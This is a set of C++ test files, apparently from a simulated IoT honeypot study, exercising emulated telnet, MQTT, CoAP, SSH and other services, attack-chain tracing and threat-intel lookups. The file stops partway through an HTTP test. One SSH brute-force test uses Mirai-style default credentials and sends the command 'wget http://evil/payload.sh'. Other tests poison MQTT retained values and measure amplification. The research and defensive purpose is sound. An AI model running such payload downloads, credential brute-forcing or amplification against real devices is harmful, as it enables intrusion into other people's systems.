                       [&](TcpConnection* conn) { refused = conn == nullptr; });
  run();
  EXPECT_TRUE(refused);
}

TEST_F(NetTest, IngressFilterDropsBlockedSources) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost blocked(Ipv4Addr(10, 0, 0, 2));
  PlainHost allowed(Ipv4Addr(10, 0, 0, 3));
  server.attach(fabric_);
  blocked.attach(fabric_);
  allowed.attach(fabric_);

  int received = 0;
  server.udp().bind(9, [&received](const Datagram&) { ++received; });
  server.set_ingress_filter([](const Packet& packet) {
    return packet.src != Ipv4Addr(10, 0, 0, 2);
  });

  blocked.udp().send(server.address(), 9, util::to_bytes("drop me"));
  allowed.udp().send(server.address(), 9, util::to_bytes("keep me"));
  run();
  EXPECT_EQ(received, 1);
}

TEST_F(NetTest, IngressFilterMakesTcpConnectTimeOut) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost blocked(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  blocked.attach(fabric_);
  server.tcp().listen(80, [](TcpConnection&) {});
  server.set_ingress_filter(
      [](const Packet& packet) { return packet.src != Ipv4Addr(10, 0, 0, 2); });

  bool failed = false;
  blocked.tcp().connect(server.address(), 80,
                        [&failed](TcpConnection* conn) {
                          failed = conn == nullptr;
                        },
                        sim::seconds(1));
  run();
  EXPECT_TRUE(failed);  // firewalled: no SYN-ACK, no RST — just a timeout
}

TEST_F(NetTest, StaleConnectTimeoutDoesNotFireOnReusedKey) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  server.tcp().listen(80, [](TcpConnection&) {});
  bool silent = false;
  server.set_ingress_filter([&silent](const Packet&) { return !silent; });

  client.tcp().set_next_ephemeral(40'000);
  TcpConnection* first = nullptr;
  client.tcp().connect_ex(
      server.address(), 80,
      [&first](TcpConnection* conn, ConnectOutcome outcome) {
        ASSERT_EQ(outcome, ConnectOutcome::kEstablished);
        first = conn;
      },
      sim::seconds(5));  // this attempt's timeout timer pends until t=5s
  run(sim::seconds(1));
  ASSERT_NE(first, nullptr);
  first->abort();  // frees the (40000 -> 10.0.0.1:80) key immediately

  // Reuse the exact key while the first connect's timer is still pending;
  // the server has gone silent, so this attempt sits in SynSent when the
  // stale timer fires at t=5s.
  silent = true;
  client.tcp().set_next_ephemeral(40'000);
  int callbacks = 0;
  ConnectOutcome second_outcome = ConnectOutcome::kEstablished;
  sim::Time resolved_at = 0;
  client.tcp().connect_ex(
      server.address(), 80,
      [&](TcpConnection* conn, ConnectOutcome outcome) {
        ++callbacks;
        EXPECT_EQ(conn, nullptr);
        second_outcome = outcome;
        resolved_at = sim_.now();
      },
      sim::seconds(10));
  run();

  // Timers are keyed by (key, generation): the first connect's stale timer
  // must stand down instead of killing the reused key at t=5s, and the
  // second attempt must run its full 10s timeout and resolve exactly once.
  EXPECT_EQ(callbacks, 1);
  EXPECT_EQ(second_outcome, ConnectOutcome::kTimeout);
  EXPECT_GE(resolved_at, sim::seconds(11));
}

TEST_F(NetTest, PacketWireSizeIncludesPayload) {
  Packet packet;
  packet.payload = util::to_bytes("12345");
  EXPECT_EQ(packet.wire_size(), 45u);
}

}  // namespace
}  // namespace ofh::net
