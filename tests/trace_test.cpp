// The causal tracing layer: id minting and context propagation, the
// (time, shard, seq) total order, and the end-to-end exports — Chrome trace
// JSON shape and the attack-chain provenance report, including the paper's
// scan -> brute-force -> injection escalation reconstructed from traces.
#include <gtest/gtest.h>

#include <cstdint>
#include <cstdlib>
#include <set>
#include <string>

#include "core/study.h"
#include "obs/trace.h"

namespace ofh {
namespace {

obs::TraceRegistry& traces() { return obs::TraceRegistry::global(); }

// Reads the integer that follows `key` in `text`; -1 when absent.
long count_after(const std::string& text, const std::string& key) {
  const auto pos = text.find(key);
  if (pos == std::string::npos) return -1;
  return std::atol(text.c_str() + pos + key.size());
}

// --------------------------------------------------------------- identity

TEST(TraceId, MintEncodesShardAndSequence) {
#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  traces().reset();
  {
    const obs::TraceShardScope scope(3);
    EXPECT_EQ(obs::mint_trace_id(), (std::uint64_t{4} << 40) | 1);
    EXPECT_EQ(obs::mint_trace_id(), (std::uint64_t{4} << 40) | 2);
  }
  {
    const obs::TraceShardScope scope(5);
    EXPECT_EQ(obs::mint_trace_id(), (std::uint64_t{6} << 40) | 1);
  }
  traces().reset();
#endif
}

TEST(TraceId, ContextNestsAndRestores) {
#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  EXPECT_EQ(obs::current_trace_id(), 0u);
  {
    const obs::TraceContext outer(42);
    EXPECT_EQ(obs::current_trace_id(), 42u);
    {
      const obs::TraceContext inner(7);
      EXPECT_EQ(obs::current_trace_id(), 7u);
    }
    EXPECT_EQ(obs::current_trace_id(), 42u);
  }
  EXPECT_EQ(obs::current_trace_id(), 0u);
#endif
}

// ------------------------------------------------------------ total order

TEST(TraceMerge, OrdersByTimeThenShardThenSeq) {
  traces().reset();
  const auto record = [](std::uint16_t shard, std::uint64_t when) {
    obs::TraceEvent event;
    event.type = obs::TraceEventType::kPacketSend;
    event.time = when;
    traces().recorder(shard).record(event);
  };
  // Interleaved times across shards, including a tie at t=10.
  record(2, 10);
  record(1, 20);
  record(1, 10);
  record(2, 5);
  record(1, 10);  // same (time, shard) as an earlier event: seq breaks tie

  const auto merged = traces().merged();
  ASSERT_EQ(merged.size(), 5u);
  EXPECT_EQ(merged[0].time, 5u);
  EXPECT_EQ(merged[1].time, 10u);
  EXPECT_EQ(merged[1].shard, 1u);  // tie at t=10: lower shard first
  EXPECT_EQ(merged[2].shard, 1u);
  EXPECT_LT(merged[1].seq, merged[2].seq);  // within shard: append order
  EXPECT_EQ(merged[3].shard, 2u);
  EXPECT_EQ(merged[4].time, 20u);
  traces().reset();
}

// ------------------------------------------------------ end-to-end exports

core::StudyConfig reduced_config() {
  core::StudyConfig config;
  config.population_scale = 1.0 / 8'192;
  config.attack_scale = 1.0 / 128;
  config.attack_duration = sim::days(6);
  return config;
}

TEST(TraceStudy, ExportsChromeJsonAndReconstructsAttackChains) {
  core::Study study(reduced_config());
  study.run_all();

  // --- Chrome trace JSON shape (CI also runs it through json.tool) -------
  const std::string json = study.trace_json();
  EXPECT_EQ(json.rfind("{\"displayTimeUnit\":\"ms\",\"traceEvents\":[", 0),
            0u);
  EXPECT_EQ(json.substr(json.size() - 2), "]}");

#ifdef OFH_NO_METRICS
  GTEST_SKIP() << "instrumentation compiled out";
#else
  EXPECT_NE(json.find("\"ph\":\"X\""), std::string::npos);  // phase spans
  EXPECT_NE(json.find("\"ph\":\"i\""), std::string::npos);  // instants
  EXPECT_NE(json.find("\"cat\":\"probe\""), std::string::npos);
  EXPECT_NE(json.find("\"cat\":\"session\""), std::string::npos);
  EXPECT_NE(json.find("\"name\":\"verdict\""), std::string::npos);
  // Wall-clock never reaches the trace: only sim timestamps are exported.
  EXPECT_EQ(json.find("wall"), std::string::npos);

  // --- attack-chain report: the Figure 9 analogue ------------------------
  const std::string chains = study.attack_chains();
  EXPECT_GT(count_after(chains, "sources with multistage chains: "), 0)
      << chains;
  EXPECT_GE(count_after(chains,
                        "scan -> brute-force -> injection escalations: "),
            1)
      << chains;
  EXPECT_GT(count_after(chains, "honeynet sources (session commands): "), 0);
  EXPECT_GT(count_after(chains, "telescope sources (flowtuples):      "), 0);

  // --- causal join: a honeypot session command carries the id minted by
  // the attacker probe that caused it, so the chain joins to the packet
  // narrative by id alone.
  std::set<std::uint64_t> probe_ids;
  bool joined = false;
  const auto events = traces().merged();
  ASSERT_FALSE(events.empty());
  for (const auto& event : events) {
    if (event.type == obs::TraceEventType::kProbe && event.trace_id != 0) {
      probe_ids.insert(event.trace_id);
    }
  }
  EXPECT_FALSE(probe_ids.empty());
  for (const auto& event : events) {
    if (event.type == obs::TraceEventType::kSessionCommand &&
        probe_ids.count(event.trace_id) != 0) {
      joined = true;
      break;
    }
  }
  EXPECT_TRUE(joined)
      << "no session command carries a probe-minted causal id";

  // The flight recorder accounting matches the merged view.
  EXPECT_EQ(traces().events_recorded(),
            events.size() + traces().events_dropped());
#endif
}

}  // namespace
}  // namespace ofh
