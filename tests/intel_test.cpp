// Intel oracle tests: geolocation, VirusTotal/GreyNoise/Censys lookups and
// reverse DNS.
#include <gtest/gtest.h>

#include "devices/population.h"
#include "intel/geo.h"
#include "intel/threat_intel.h"

namespace ofh::intel {
namespace {

using util::Cidr;
using util::Ipv4Addr;

TEST(GeoDb, LooksUpByCoveringPrefix) {
  GeoDb geo;
  geo.add(*Cidr::parse("11.0.0.0/20"), "Germany");
  geo.add(*Cidr::parse("12.0.0.0/20"), "Japan");
  EXPECT_EQ(geo.country(Ipv4Addr(11, 0, 1, 5)), "Germany");
  EXPECT_EQ(geo.country(Ipv4Addr(12, 0, 15, 255)), "Japan");
  EXPECT_EQ(geo.country(Ipv4Addr(13, 0, 0, 1)), "Other");
}

TEST(GeoDb, BuildsFromPopulationGroundTruth) {
  devices::PopulationSpec spec;
  spec.seed = 3;
  spec.scale = 1.0 / 8'192;
  devices::Population population(spec);
  population.build();
  const GeoDb geo(population);
  EXPECT_EQ(geo.prefix_count(), population.prefixes().size());
  // Every device's lookup must equal the spec's planted country.
  for (std::uint64_t i = 0; i < population.size(); ++i) {
    EXPECT_EQ(geo.country(population.address_at(i)), population.country_at(i));
  }
}

TEST(VirusTotal, IpFlagsKeepHighestPositives) {
  VirusTotalDb vt;
  EXPECT_FALSE(vt.is_malicious(Ipv4Addr(1)));
  vt.flag_ip(Ipv4Addr(1), 3);
  vt.flag_ip(Ipv4Addr(1), 1);  // lower report must not downgrade
  EXPECT_EQ(vt.ip_positives(Ipv4Addr(1)), 3);
  EXPECT_TRUE(vt.is_malicious(Ipv4Addr(1)));
  EXPECT_EQ(vt.ip_positives(Ipv4Addr(2)), 0);
}

TEST(VirusTotal, UrlAndHashLookups) {
  VirusTotalDb vt;
  vt.flag_url("http://evil.example/payload");
  EXPECT_TRUE(vt.url_malicious("http://evil.example/payload"));
  EXPECT_FALSE(vt.url_malicious("http://benign.example/"));

  vt.add_hash("abc123", "Mirai");
  EXPECT_EQ(vt.lookup_hash("abc123"), "Mirai");
  EXPECT_FALSE(vt.lookup_hash("deadbeef"));
  EXPECT_EQ(vt.hash_count(), 1u);
}

TEST(GreyNoise, UnknownByDefault) {
  GreyNoiseDb gn;
  EXPECT_EQ(gn.lookup(Ipv4Addr(5)), GreyNoiseClass::kUnknown);
  gn.classify(Ipv4Addr(5), GreyNoiseClass::kBenign);
  gn.classify(Ipv4Addr(6), GreyNoiseClass::kMalicious);
  EXPECT_EQ(gn.lookup(Ipv4Addr(5)), GreyNoiseClass::kBenign);
  EXPECT_EQ(gn.lookup(Ipv4Addr(6)), GreyNoiseClass::kMalicious);
  EXPECT_EQ(gn.known_count(), 2u);
}

TEST(Censys, IotTags) {
  CensysDb censys;
  EXPECT_FALSE(censys.iot_tag(Ipv4Addr(9)));
  censys.tag_iot(Ipv4Addr(9), "Camera");
  EXPECT_EQ(censys.iot_tag(Ipv4Addr(9)), "Camera");
}

TEST(ReverseDns, LookupAndOverwrite) {
  ReverseDns rdns;
  EXPECT_FALSE(rdns.lookup(Ipv4Addr(1)));
  rdns.add(Ipv4Addr(1), "scan-0.shodan.io");
  EXPECT_EQ(rdns.lookup(Ipv4Addr(1)), "scan-0.shodan.io");
  rdns.add(Ipv4Addr(1), "scan-1.shodan.io");
  EXPECT_EQ(rdns.lookup(Ipv4Addr(1)), "scan-1.shodan.io");
}

}  // namespace
}  // namespace ofh::intel
