// Server-engine behaviour tests: each protocol service driven end-to-end
// over the simulated fabric by a scripted client.
#include <gtest/gtest.h>

#include "proto/amqp.h"
#include "proto/coap.h"
#include "proto/ftp.h"
#include "proto/http.h"
#include "proto/modbus.h"
#include "proto/mqtt.h"
#include "proto/s7.h"
#include "proto/smb.h"
#include "proto/ssdp.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "proto/xmpp.h"
#include "test_helpers.h"

namespace ofh::proto {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

class ServerTest : public SimTest {
 protected:
  ServerTest()
      : server_(Ipv4Addr(10, 0, 0, 1)), client_(Ipv4Addr(10, 0, 0, 2)) {
    server_.attach(fabric_);
    client_.attach(fabric_);
  }

  // Connects, sends `payload`, collects everything received for `window`.
  std::string tcp_exchange(std::uint16_t port, util::Bytes payload,
                           sim::Duration window = sim::seconds(2)) {
    auto collected = std::make_shared<std::string>();
    client_.tcp().connect(server_.address(), port,
                          [payload = std::move(payload),
                           collected](net::TcpConnection* conn) mutable {
                            if (conn == nullptr) return;
                            if (!payload.empty()) conn->send(std::move(payload));
                            conn->on_data =
                                [collected](net::TcpConnection&,
                                            std::span<const std::uint8_t> data) {
                                  *collected += util::to_string(data);
                                };
                          });
    run(window);
    run();
    return *collected;
  }

  std::string udp_exchange(std::uint16_t port, util::Bytes payload) {
    auto collected = std::make_shared<std::string>();
    client_.udp().bind(33'333, [collected](const net::Datagram& datagram) {
      *collected += util::to_string(datagram.payload);
    });
    client_.udp().send(server_.address(), port, std::move(payload), 33'333);
    run();
    client_.udp().unbind(33'333);
    return *collected;
  }

  PlainHost server_;
  PlainHost client_;
};

// ----------------------------------------------------------------- telnet

TEST_F(ServerTest, TelnetOpenConsoleGivesShellImmediately) {
  auto config = telnet::TelnetServerConfig::open_console("root@cam:~$ ",
                                                         "HiKVision\r\n");
  telnet::TelnetServer server(config);
  server.install(server_);
  const auto banner = tcp_exchange(23, {});
  EXPECT_NE(banner.find("HiKVision"), std::string::npos);
  EXPECT_NE(banner.find("root@cam:~$"), std::string::npos);
}

TEST_F(ServerTest, TelnetLoginFlowAcceptsValidCredentials) {
  auto config = telnet::TelnetServerConfig::login_console(
      "device\r\n", AuthConfig::with("admin", "admin"));
  std::vector<std::string> attempts;
  telnet::TelnetEvents events;
  events.on_login_attempt = [&](Ipv4Addr, const std::string& user,
                                const std::string& pass, bool ok) {
    attempts.push_back(user + ":" + pass + (ok ? ":ok" : ":fail"));
  };
  telnet::TelnetServer server(config, events);
  server.install(server_);

  telnet::TelnetClient::Result result;
  telnet::TelnetClient::run(
      client_, server_.address(), 23, {{"root", "wrong"}, {"admin", "admin"}},
      {"uname -a"}, [&](const telnet::TelnetClient::Result& r) { result = r; });
  run(sim::minutes(2));
  EXPECT_TRUE(result.connected);
  EXPECT_TRUE(result.shell);
  EXPECT_EQ(result.used.user, "admin");
  ASSERT_EQ(attempts.size(), 2u);
  EXPECT_EQ(attempts[0], "root:wrong:fail");
  EXPECT_EQ(attempts[1], "admin:admin:ok");
}

TEST_F(ServerTest, TelnetRejectsAfterMaxAttempts) {
  auto config = telnet::TelnetServerConfig::login_console(
      "", AuthConfig::with("admin", "correct"));
  config.max_login_attempts = 2;
  telnet::TelnetServer server(config);
  server.install(server_);

  telnet::TelnetClient::Result result;
  telnet::TelnetClient::run(
      client_, server_.address(), 23,
      {{"a", "1"}, {"b", "2"}, {"c", "3"}}, {},
      [&](const telnet::TelnetClient::Result& r) { result = r; });
  run(sim::minutes(2));
  EXPECT_TRUE(result.connected);
  EXPECT_FALSE(result.shell);
  EXPECT_TRUE(result.login_required);
}

TEST_F(ServerTest, TelnetCommandResponses) {
  auto config = telnet::TelnetServerConfig::open_console("$ ");
  config.command_responses = {{"uname", "Linux armv7l\r\n"}};
  std::vector<std::string> commands;
  telnet::TelnetEvents events;
  events.on_command = [&](Ipv4Addr, const std::string& command) {
    commands.push_back(command);
  };
  telnet::TelnetServer server(config, events);
  server.install(server_);

  const auto out = tcp_exchange(23, util::to_bytes("uname -r\r\n"));
  EXPECT_NE(out.find("Linux armv7l"), std::string::npos);
  ASSERT_EQ(commands.size(), 1u);
  EXPECT_EQ(commands[0], "uname -r");
}

// ------------------------------------------------------------------- mqtt

TEST_F(ServerTest, MqttOpenBrokerAcceptsAnonymousConnect) {
  mqtt::BrokerConfig config;
  config.auth = AuthConfig::open();
  mqtt::Broker broker(config);
  broker.install(server_);

  mqtt::ConnectPacket connect;
  connect.client_id = "test";
  const auto reply = tcp_exchange(1883, mqtt::encode_connect(connect));
  // CONNACK with return code 0.
  ASSERT_GE(reply.size(), 4u);
  EXPECT_EQ(static_cast<std::uint8_t>(reply[0]) >> 4,
            static_cast<int>(mqtt::PacketType::kConnack));
  EXPECT_EQ(reply[3], 0);
}

TEST_F(ServerTest, MqttSecuredBrokerRejectsAnonymous) {
  mqtt::BrokerConfig config;
  config.auth = AuthConfig::with("user", "pass");
  mqtt::Broker broker(config);
  broker.install(server_);

  mqtt::ConnectPacket connect;
  connect.client_id = "test";
  const auto reply = tcp_exchange(1883, mqtt::encode_connect(connect));
  ASSERT_GE(reply.size(), 4u);
  EXPECT_EQ(reply[3], 5);  // not authorized
}

TEST_F(ServerTest, MqttSubscribeDeliversRetainedMessages) {
  mqtt::BrokerConfig config;
  config.auth = AuthConfig::open();
  config.retained = {{"octoPrint/temperature/bed", "60.0"}};
  mqtt::Broker broker(config);
  broker.install(server_);

  mqtt::ConnectPacket connect;
  connect.client_id = "sub";
  util::Bytes payload = mqtt::encode_connect(connect);
  mqtt::SubscribePacket subscribe;
  subscribe.packet_id = 1;
  subscribe.topic_filters = {"#"};
  const auto frame = mqtt::encode_subscribe(subscribe);
  payload.insert(payload.end(), frame.begin(), frame.end());

  const auto reply = tcp_exchange(1883, std::move(payload));
  EXPECT_NE(reply.find("octoPrint/temperature/bed"), std::string::npos);
  EXPECT_NE(reply.find("60.0"), std::string::npos);
}

TEST_F(ServerTest, MqttPublishPoisonsRetainedState) {
  mqtt::BrokerConfig config;
  config.auth = AuthConfig::open();
  config.retained = {{"sensor/value", "21"}};
  mqtt::Broker broker(config);
  broker.install(server_);

  mqtt::ConnectPacket connect;
  connect.client_id = "evil";
  util::Bytes payload = mqtt::encode_connect(connect);
  mqtt::PublishPacket publish;
  publish.topic = "sensor/value";
  publish.payload = util::to_bytes("9999");
  const auto frame = mqtt::encode_publish(publish);
  payload.insert(payload.end(), frame.begin(), frame.end());
  tcp_exchange(1883, std::move(payload));

  EXPECT_EQ(broker.retained("sensor/value"), "9999");
}

TEST_F(ServerTest, MqttUnsubscribeAcknowledged) {
  mqtt::BrokerConfig config;
  config.auth = AuthConfig::open();
  mqtt::Broker broker(config);
  broker.install(server_);

  mqtt::ConnectPacket connect;
  connect.client_id = "unsub";
  util::Bytes payload = mqtt::encode_connect(connect);
  mqtt::SubscribePacket subscribe;
  subscribe.packet_id = 4;
  subscribe.topic_filters = {"a/#"};
  const auto sub = mqtt::encode_subscribe(subscribe);
  payload.insert(payload.end(), sub.begin(), sub.end());
  // UNSUBSCRIBE frame: packet id + filter.
  util::ByteWriter unsub_body;
  unsub_body.u16(5).str16("a/#");
  const auto unsub = mqtt::encode_packet(mqtt::PacketType::kUnsubscribe,
                                         0x02, unsub_body.bytes());
  payload.insert(payload.end(), unsub.begin(), unsub.end());

  const auto reply = tcp_exchange(1883, std::move(payload));
  // The reply stream must contain an UNSUBACK (type 11) echoing id 5.
  bool saw_unsuback = false;
  for (std::size_t i = 0; i + 3 < reply.size(); ++i) {
    if ((static_cast<std::uint8_t>(reply[i]) >> 4) ==
            static_cast<int>(mqtt::PacketType::kUnsuback) &&
        static_cast<std::uint8_t>(reply[i + 1]) == 2 &&
        static_cast<std::uint8_t>(reply[i + 3]) == 5) {
      saw_unsuback = true;
    }
  }
  EXPECT_TRUE(saw_unsuback);
}

TEST_F(ServerTest, MqttExposesSysTopics) {
  mqtt::BrokerConfig config;
  config.auth = AuthConfig::open();
  mqtt::Broker broker(config);
  EXPECT_TRUE(broker.retained("$SYS/broker/version").has_value());
}

// ------------------------------------------------------------------- coap

TEST_F(ServerTest, CoapDiscoveryListsResources) {
  coap::CoapServerConfig config;
  config.resources = {{"sensors/temp", "ucum:Cel", "21.3", true}};
  coap::CoapServer server(config);
  server.install(server_);

  const auto request = coap::make_discovery_request(1);
  const auto raw = udp_exchange(5683, coap::encode(request));
  const auto response = coap::decode(util::to_bytes(raw));
  ASSERT_TRUE(response);
  EXPECT_EQ(response->code, coap::Code::kContent);
  EXPECT_NE(util::to_string(response->payload).find("</sensors/temp>"),
            std::string::npos);
}

TEST_F(ServerTest, CoapHiddenDiscoveryAnswersUnauthorized) {
  coap::CoapServerConfig config;
  config.expose_discovery = false;
  config.open_access = false;
  coap::CoapServer server(config);
  server.install(server_);

  const auto raw =
      udp_exchange(5683, coap::encode(coap::make_discovery_request(1)));
  const auto response = coap::decode(util::to_bytes(raw));
  ASSERT_TRUE(response);
  EXPECT_EQ(response->code, coap::Code::kUnauthorized);
}

TEST_F(ServerTest, CoapOpenAccessAllowsPut) {
  coap::CoapServerConfig config;
  config.open_access = true;
  config.resources = {{"state", "core.s", "on", true}};
  coap::CoapServer server(config);
  server.install(server_);

  coap::Message put;
  put.code = coap::Code::kPut;
  put.message_id = 9;
  put.set_uri_path("state");
  put.payload = util::to_bytes("off");
  const auto raw = udp_exchange(5683, coap::encode(put));
  const auto response = coap::decode(util::to_bytes(raw));
  ASSERT_TRUE(response);
  EXPECT_EQ(response->code, coap::Code::kChanged);
  EXPECT_EQ(server.resource_value("state"), "off");
}

TEST_F(ServerTest, CoapClosedAccessRejectsResourceReads) {
  coap::CoapServerConfig config;
  config.open_access = false;
  config.resources = {{"state", "core.s", "on", true}};
  coap::CoapServer server(config);
  server.install(server_);

  coap::Message get;
  get.code = coap::Code::kGet;
  get.message_id = 2;
  get.set_uri_path("state");
  const auto raw = udp_exchange(5683, coap::encode(get));
  const auto response = coap::decode(util::to_bytes(raw));
  ASSERT_TRUE(response);
  EXPECT_EQ(response->code, coap::Code::kUnauthorized);
}

TEST_F(ServerTest, CoapDiscoveryAmplifies) {
  coap::CoapServerConfig config;
  config.discovery_padding = 512;
  config.resources = {{"a", "", "1", true}, {"b", "", "2", true}};
  coap::CoapServer server(config);
  server.install(server_);

  const auto request = coap::encode(coap::make_discovery_request(1));
  const auto raw = udp_exchange(5683, util::Bytes(request));
  EXPECT_GT(raw.size(), request.size() * 10);  // amplification factor > 10x
}

// ------------------------------------------------------------------- amqp

TEST_F(ServerTest, AmqpAnnouncesProductAndMechanisms) {
  amqp::AmqpBrokerConfig config;
  config.product = "RabbitMQ";
  config.version = "2.7.1";
  config.auth = AuthConfig::open();
  amqp::AmqpBroker broker(config);
  broker.install(server_);

  const auto raw = tcp_exchange(5672, amqp::protocol_header());
  std::size_t consumed = 0;
  const auto frame = amqp::decode_frame(util::to_bytes(raw), &consumed);
  ASSERT_TRUE(frame);
  const auto start = amqp::decode_start(frame->payload);
  ASSERT_TRUE(start);
  EXPECT_EQ(start->product, "RabbitMQ");
  EXPECT_EQ(start->version, "2.7.1");
  EXPECT_NE(std::find(start->mechanisms.begin(), start->mechanisms.end(),
                      "ANONYMOUS"),
            start->mechanisms.end());
}

TEST_F(ServerTest, AmqpSecuredBrokerOmitsAnonymous) {
  amqp::AmqpBrokerConfig config;
  config.auth = AuthConfig::with("guest", "guest");
  amqp::AmqpBroker broker(config);
  broker.install(server_);

  const auto raw = tcp_exchange(5672, amqp::protocol_header());
  std::size_t consumed = 0;
  const auto frame = amqp::decode_frame(util::to_bytes(raw), &consumed);
  ASSERT_TRUE(frame);
  const auto start = amqp::decode_start(frame->payload);
  ASSERT_TRUE(start);
  EXPECT_EQ(std::find(start->mechanisms.begin(), start->mechanisms.end(),
                      "ANONYMOUS"),
            start->mechanisms.end());
}

TEST_F(ServerTest, AmqpPublishGrowsQueue) {
  amqp::AmqpBrokerConfig config;
  config.auth = AuthConfig::open();
  amqp::AmqpBroker broker(config);
  broker.install(server_);

  util::Bytes payload = amqp::protocol_header();
  const auto start_ok =
      amqp::encode_start_ok(amqp::StartOkMethod{"ANONYMOUS", "", ""});
  amqp::Frame auth_frame;
  auth_frame.type = amqp::FrameType::kMethod;
  auth_frame.payload = start_ok;
  const auto auth_bytes = amqp::encode_frame(auth_frame);
  payload.insert(payload.end(), auth_bytes.begin(), auth_bytes.end());
  const auto publish = amqp::AmqpBroker::publish_command("q1", "poison");
  payload.insert(payload.end(), publish.begin(), publish.end());

  tcp_exchange(5672, std::move(payload));
  EXPECT_EQ(broker.queue_depth("q1"), 1u);
}

// ------------------------------------------------------------------- xmpp

TEST_F(ServerTest, XmppAdvertisesAnonymousWhenMisconfigured) {
  xmpp::XmppServerConfig config;
  config.auth = AuthConfig::anonymous();
  xmpp::XmppServer server(config);
  server.install(server_);

  const auto raw = tcp_exchange(5222, util::to_bytes(xmpp::stream_open("c")));
  EXPECT_NE(raw.find("<mechanism>ANONYMOUS</mechanism>"), std::string::npos);
}

TEST_F(ServerTest, XmppAnonymousAuthSucceedsOnMisconfiguredServer) {
  xmpp::XmppServerConfig config;
  config.auth = AuthConfig::anonymous();
  bool auth_ok = false;
  xmpp::XmppEvents events;
  events.on_auth = [&](Ipv4Addr, const std::string& mechanism, bool ok) {
    if (mechanism == "ANONYMOUS") auth_ok = ok;
  };
  xmpp::XmppServer server(config, events);
  server.install(server_);

  std::string payload = xmpp::stream_open("client");
  const auto raw0 = tcp_exchange(5222, util::to_bytes(payload));
  // Second stage: new connection performing stream open + auth.
  util::Bytes combined = util::to_bytes(xmpp::stream_open("client"));
  run(sim::seconds(1));
  // Send stream open, wait, then auth on same connection:
  auto collected = std::make_shared<std::string>();
  client_.tcp().connect(server_.address(), 5222, [&, collected](
                                                     net::TcpConnection* conn) {
    ASSERT_NE(conn, nullptr);
    conn->on_data = [collected](net::TcpConnection& conn,
                                std::span<const std::uint8_t> data) {
      *collected += util::to_string(data);
      if (collected->find("</stream:features>") != std::string::npos &&
          collected->find("success") == std::string::npos) {
        conn.send_text(xmpp::sasl_auth("ANONYMOUS", ""));
      }
    };
    conn->send_text(xmpp::stream_open("client"));
  });
  run(sim::minutes(1));
  EXPECT_TRUE(auth_ok);
  EXPECT_NE(collected->find("<success"), std::string::npos);
}

TEST_F(ServerTest, XmppStrictServerRequiresTls) {
  xmpp::XmppServerConfig config;
  config.auth = AuthConfig::with("user", "pw");
  config.starttls_required = true;
  xmpp::XmppServer server(config);
  server.install(server_);
  const auto raw = tcp_exchange(5222, util::to_bytes(xmpp::stream_open("c")));
  EXPECT_NE(raw.find("<required/>"), std::string::npos);
  EXPECT_EQ(raw.find("<mechanism>ANONYMOUS</mechanism>"), std::string::npos);
}

// ------------------------------------------------------------------- ssdp

TEST_F(ServerTest, UpnpDisclosingDeviceAnswersWithHeaders) {
  ssdp::UpnpDeviceConfig config;
  config.friendly_name = "TOTOLINK N150RA";
  config.model_name = "N150RA";
  config.responses_per_search = 2;
  ssdp::UpnpDevice device(config);
  device.install(server_);

  ssdp::MSearch search;
  const auto raw = udp_exchange(1900, ssdp::encode_msearch(search));
  EXPECT_NE(raw.find("Friendly Name: TOTOLINK N150RA"), std::string::npos);
  EXPECT_NE(raw.find("LOCATION:"), std::string::npos);
  // Two duplicate responses arrived (amplification).
  EXPECT_EQ(raw.find("HTTP/1.1 200 OK"), 0u);
  EXPECT_NE(raw.find("HTTP/1.1 200 OK", 10), std::string::npos);
}

TEST_F(ServerTest, UpnpHardenedDeviceAnswersMinimally) {
  ssdp::UpnpDeviceConfig config;
  config.disclose_details = false;
  config.friendly_name = "secret";
  ssdp::UpnpDevice device(config);
  device.install(server_);

  const auto raw = udp_exchange(1900, ssdp::encode_msearch(ssdp::MSearch{}));
  EXPECT_FALSE(raw.empty());
  EXPECT_EQ(raw.find("LOCATION:"), std::string::npos);
  EXPECT_EQ(raw.find("secret"), std::string::npos);
}

TEST_F(ServerTest, UpnpIgnoresNonSsdpPayloads) {
  ssdp::UpnpDevice device(ssdp::UpnpDeviceConfig{});
  device.install(server_);
  const auto raw = udp_exchange(1900, util::to_bytes("GET / HTTP/1.1\r\n\r\n"));
  EXPECT_TRUE(raw.empty());
}

// -------------------------------------------------------------------- ssh

TEST_F(ServerTest, SshClientBruteForcesUntilSuccess) {
  ssh::SshServerConfig config;
  config.auth = AuthConfig::with("root", "xc3511");
  std::vector<bool> results;
  ssh::SshEvents events;
  events.on_auth = [&](Ipv4Addr, const std::string&, const std::string&,
                       bool ok) { results.push_back(ok); };
  ssh::SshServer server(config, events);
  server.install(server_);

  ssh::SshClient::Result result;
  ssh::SshClient::run(client_, server_.address(), 22,
                      {{"admin", "admin"}, {"root", "root"}, {"root", "xc3511"}},
                      {"wget http://evil/payload.sh"},
                      [&](const ssh::SshClient::Result& r) { result = r; });
  run(sim::minutes(1));
  EXPECT_TRUE(result.connected);
  EXPECT_TRUE(result.authenticated);
  EXPECT_EQ(result.used.pass, "xc3511");
  EXPECT_EQ(result.server_banner.find("SSH-2.0-"), 0u);
  EXPECT_EQ(results, (std::vector<bool>{false, false, true}));
}

TEST_F(ServerTest, SshServerDisconnectsAfterMaxAttempts) {
  ssh::SshServerConfig config;
  config.auth = AuthConfig::with("a", "b");
  config.max_attempts = 2;
  ssh::SshServer server(config);
  server.install(server_);

  ssh::SshClient::Result result;
  ssh::SshClient::run(client_, server_.address(), 22,
                      {{"x", "1"}, {"x", "2"}, {"x", "3"}, {"x", "4"}}, {},
                      [&](const ssh::SshClient::Result& r) { result = r; });
  run(sim::minutes(1));
  EXPECT_TRUE(result.connected);
  EXPECT_FALSE(result.authenticated);
  EXPECT_LE(result.attempts, 3);
}

// ------------------------------------------------------------------- http

TEST_F(ServerTest, HttpServesRoutesAnd404) {
  http::HttpServerConfig config;
  config.routes = {{"/", "<html>home</html>"}};
  http::HttpServer server(config);
  server.install(server_);

  http::Request request;
